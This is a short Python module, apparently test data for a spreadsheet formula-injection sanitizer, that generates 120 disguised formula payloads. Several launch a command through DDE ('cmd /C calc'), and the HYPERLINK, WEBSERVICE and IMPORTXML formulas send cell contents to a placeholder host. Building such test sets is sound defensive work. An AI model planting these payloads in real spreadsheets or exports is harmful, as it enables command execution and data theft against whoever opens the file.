"""A hundred and twenty texts that a spreadsheet might run: starts of formulas in every disguise."""

from __future__ import annotations

_BODIES = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"Cliquez")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=IMPORTXML(CONCAT("http://example.invalid?",A1),"//a")',
    '=DDE("cmd";"/C calc";"1")',
    "{=1+1}",
    "-2+3+cmd|' /C calc'!A0",
)
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", '"', "'")
PAYLOADS = tuple(before + body for body in _BODIES for before in _BEFORE)
assert len(set(PAYLOADS)) == 120
